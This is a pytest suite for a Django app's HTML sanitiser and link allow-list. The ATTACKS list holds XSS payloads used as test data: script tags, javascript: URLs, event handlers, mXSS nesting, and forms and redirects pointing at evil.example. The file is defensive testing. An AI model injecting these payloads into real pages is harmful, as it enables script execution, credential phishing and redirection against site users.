"""The allow-list, and the type that says something has been through it."""

from __future__ import annotations

import copy
import re
from html.parser import HTMLParser

import pytest
from django.template import Context, Template
from hypothesis import assume, given

from articles.blocks import MarkdownRefused, blocks_from_markdown
from articles.body import render_body
from articles.sanitising import (
    SanitisedHtml,
    is_allowed_address,
    sanitise_block,
    sanitise_body,
    sanitise_code,
    sanitise_table,
    trusted_from_storage,
)
from tests.articles.markdown import making

SANITISERS = [sanitise_block, sanitise_table, sanitise_code, sanitise_body]
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  JaVaScRiPt&#58;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="https://example.org/" onclick="alert(1)" style="position:fixed">x</a>',
    '<img src="https://evil.example/pixel.png" onerror=alert(1)>',
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
    "<style>@import url(//evil.example/x.css)</style>",
    '<p style="background:url(https://evil.example/)">x</p>',
    '<iframe src="https://evil.example/"></iframe><object data="x"></object><embed src="x">',
    '<form action="https://evil.example/"><input name="password"><button>x</button></form>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>',
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
    '<em id="p-abc" class="card" name="x" data-x="1" tabindex="1">x</em>',
    "<!--><img src=x onerror=alert(1)>-->",
    '<td class="right evil">x</td>',
    "<video src=https://evil.example/a></video><audio autoplay></audio><link rel=stylesheet>",
]  # fmt: skip
BAD_TAGS = {"script", "style", "img", "svg", "iframe", "object", "embed", "form", "input", "link"}
BAD_TAGS |= {"button", "base", "meta", "video", "audio", "maction", "mglyph", "annotation-xml"}


class Seen(HTMLParser):
    """The elements and attributes that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.extend(attrs)


def check_harmless(html: str) -> None:
    seen = Seen(html)
    assert not seen.tags & BAD_TAGS
    for name, value in seen.attributes:
        assert name in {"href", "rel", "class", "start", "alttext", "display", "stretchy", "fence",
                        "form", "separator"}  # fmt: skip
        if name == "href":
            assert re.match(r"(?:https?|mailto):|[^:]*$|[/?#]", value or "", re.I)
        if name == "class":
            assert value in {"left", "center", "right"}


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("sanitise", SANITISERS)
def test_attacks_come_out_harmless(sanitise: object, attack: str) -> None:
    assert callable(sanitise)
    clean = sanitise(attack)
    assert isinstance(clean, SanitisedHtml)
    check_harmless(clean)
    assert sanitise(clean) == clean


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_in_markdown_come_out_harmless(attack: str) -> None:
    check_harmless(render_body(attack))
    for block in blocks_from_markdown(attack):
        check_harmless(block.html)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:x",
        "file:///etc/passwd",
        "blob:https://example.org/x",
        "ftp://example.org/",
        "//evil.example/",
        "http://a:b",
    ],
)
def test_links_lead_nowhere_else(url: str) -> None:
    assert not is_allowed_address(url)
    assert f'href="{url}"' not in render_body(f"[a]({url})")
    assert f'href="{url}"' not in render_body(f"<{url}>")
    assert f'href="{url}"' not in render_body(f"![a]({url})")


@pytest.mark.parametrize(
    "url",
    ["https://e.org/", "http://e.org:8080/a?b=c#d", "mailto:a@example.org", "/a", "#b", "c.html"],
)
def test_links_lead_where_people_mean(url: str) -> None:
    assert is_allowed_address(url)
    assert f'href="{url}"' in render_body(f"[a]({url})")


@given(making.any_markdown())
def test_any_markdown_comes_out_harmless(markdown: str) -> None:
    try:
        check_harmless(render_body(markdown))
        for block in blocks_from_markdown(markdown):
            check_harmless(block.html)
    except MarkdownRefused:
        assume(False)


def test_only_the_sanitiser_makes_sanitised_html() -> None:
    with pytest.raises(TypeError):
        SanitisedHtml("<script>alert(1)</script>")
    with pytest.raises(TypeError):
        SanitisedHtml("x", token=object())
    assert type(trusted_from_storage("<em>x</em>")) is SanitisedHtml


def test_what_is_made_of_sanitised_html_is_a_plain_string() -> None:
    clean = sanitise_block("<em>x</em>")
    for made in (clean + "<script>", "<script>" + clean, clean.replace("x", "y"), clean[1:],
                 clean.upper(), f"{clean}", clean * 2):  # fmt: skip
        assert type(made) is str
    for copied in (copy.copy(clean), copy.deepcopy(clean)):  # as pickle does
        assert type(copied) is str


def test_templates_escape_all_but_sanitised_html() -> None:
    shown = Template("{{ clean }}|{{ made }}").render(
        Context({"clean": sanitise_block("<em>x</em>"), "made": sanitise_block("<em>") + "<b>"})
    )
    assert shown == "<em>x</em>|&lt;em&gt;&lt;/em&gt;&lt;b&gt;"


def test_a_table_lets_no_row_out() -> None:
    clean = sanitise_table(
        "<tr><td>a</td></tr></table><script>x</script><table><tr><td>b</td></tr>"
    )
    assert clean == "ab"
